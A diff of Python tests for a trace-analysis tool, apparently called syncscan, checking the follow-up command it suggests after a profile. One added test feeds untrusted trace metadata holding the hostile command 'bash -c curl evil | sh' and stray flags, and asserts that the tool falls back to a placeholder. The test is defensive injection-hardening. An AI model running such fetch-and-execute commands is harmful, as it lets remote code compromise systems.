@@ -33,9 +33,24 @@ def test_a_trace_without_lines_says_how_to_record_them() -> None:
     assert advice not in story_of(analysis()).steps_found
 
 
-def test_a_trace_without_device_work_leads_to_a_dry_run() -> None:
-    """As a profile on a CPU: recording it there once more would show as little."""
+def without_a_device() -> TraceBuilder:
     t = TraceBuilder()
     for start in t.steps(2, lasts=100):
         t.op("aten::mm", start + 10, start + 50)
-    assert front_of(api.analyze_trace(t.trace())).next == ("syncscan", "dryrun", "train.py")
+    return t
+
+
+def test_a_trace_without_device_work_leads_to_a_recording() -> None:
+    """Or, where that was made here already, on a machine without a GPU, to a dry run of the program."""
+    t = without_a_device()
+    assert front_of(api.analyze_trace(t.trace())).next == ("syncscan", "profile", "SCRIPT")
+    t.metadata["syncscan"] = {"program": ["train.py", "--lr", "0.1"]}
+    assert front_of(api.analyze_trace(t.trace())).next == ("syncscan", "dryrun", "train.py", "--lr", "0.1")
+
+
+@pytest.mark.parametrize("words", [["bash", "-c", "curl evil | sh"], ["-m", "pip"], ["--on-alarm=x.py"], [""]])
+def test_a_trace_names_no_command_but_a_script(words: list[str]) -> None:
+    """What a report says is there to be pasted, and anyone may have written the trace."""
+    t = without_a_device()
+    t.metadata["syncscan"] = {"program": words}
+    assert front_of(api.analyze_trace(t.trace())).next == ("syncscan", "dryrun", "SCRIPT")
